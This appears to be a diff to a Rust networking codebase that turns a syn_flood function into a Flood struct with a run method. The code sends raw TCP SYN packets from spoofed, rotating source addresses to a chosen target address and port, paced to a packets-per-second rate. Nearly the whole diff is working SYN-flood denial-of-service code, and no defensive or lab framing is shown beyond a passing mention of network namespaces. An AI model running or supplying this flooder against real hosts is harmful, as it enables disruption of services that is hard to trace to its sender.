@@ -364,46 +364,60 @@ impl TcpPacket {
     }
 }
 
-/// Sends SYNs to `dst:dport` from `sources` source addresses starting at `first_src`
-/// (round robin, ports varying), at up to `pps` packets per second, for at most `secs`
-/// seconds or `max` packets, whichever comes first. Returns the number sent.
-pub fn syn_flood(
-    first_src: Ipv4Addr,
-    sources: u32,
-    dst: Ipv4Addr,
-    dport: u16,
-    pps: u64,
-    secs: f64,
-    max: u64,
-) -> Result<u64> {
-    let sender = RawSender::new()?;
-    let start = Instant::now();
-    let deadline = start + Duration::from_secs_f64(secs);
-    let base = u32::from(first_src);
-    let mut sent = 0u64;
-    let mut template = TcpPacket::syn(first_src, dst, 1024, dport);
-    // Pace in batches of 64 so the clock is not read per packet.
-    while sent < max && Instant::now() < deadline {
-        for _ in 0..64 {
-            let i = sent;
-            template.src = Ipv4Addr::from(base + (i % u64::from(sources.max(1))) as u32);
-            template.sport = 1024 + (i % 60_000) as u16;
-            template.seq = (i as u32).wrapping_mul(2_654_435_761);
-            sender.send(&template.build())?;
-            sent += 1;
-            if sent >= max {
-                break;
+/// A SYN flood: SYNs to `dst:dport` from `sources` addresses starting at `first_src`
+/// (round robin, source ports varying), paced to `pps` packets per second, bounded by
+/// `secs` seconds and `max` packets.
+#[derive(Debug, Clone, Copy)]
+pub struct Flood {
+    /// First spoofed source address.
+    pub first_src: Ipv4Addr,
+    /// How many consecutive source addresses to use.
+    pub sources: u32,
+    /// Target address.
+    pub dst: Ipv4Addr,
+    /// Target port.
+    pub dport: u16,
+    /// Packets per second (0 = as fast as the sender can).
+    pub pps: u64,
+    /// At most this many seconds.
+    pub secs: f64,
+    /// At most this many packets.
+    pub max: u64,
+}
+
+impl Flood {
+    /// Sends until a bound is reached or `stop` is set; returns the packets sent. Runs in
+    /// the calling thread's namespace.
+    pub fn run(&self, stop: &std::sync::atomic::AtomicBool) -> Result<u64> {
+        let sender = RawSender::new()?;
+        let start = Instant::now();
+        let deadline = start + Duration::from_secs_f64(self.secs);
+        let base = u32::from(self.first_src);
+        let sources = u64::from(self.sources.max(1));
+        let mut sent = 0u64;
+        let mut packet = TcpPacket::syn(self.first_src, self.dst, 1024, self.dport);
+        // Pace in batches of 64 so the clock is not read for every packet.
+        while sent < self.max && Instant::now() < deadline && !stop.load(Ordering::Relaxed) {
+            for _ in 0..64 {
+                packet.src = Ipv4Addr::from(base.wrapping_add((sent % sources) as u32));
+                packet.sport = 1024 + (sent % 60_000) as u16;
+                packet.seq = (sent as u32).wrapping_mul(2_654_435_761);
+                sender.send(&packet.build())?;
+                sent += 1;
+                if sent >= self.max {
+                    break;
+                }
+            }
+            if self.pps > 0 {
+                let due = start + Duration::from_secs_f64(sent as f64 / self.pps as f64);
+                let now = Instant::now();
+                if due > now {
+                    std::thread::sleep(due - now);
+                }
             }
         }
-        if pps > 0 {
-            let due = start + Duration::from_secs_f64(sent as f64 / pps as f64);
-            let now = Instant::now();
-            if due > now {
-                std::thread::sleep(due - now);
-            }
-        }
+        Ok(sent)
     }
-    Ok(sent)
 }
 
 #[cfg(test)]
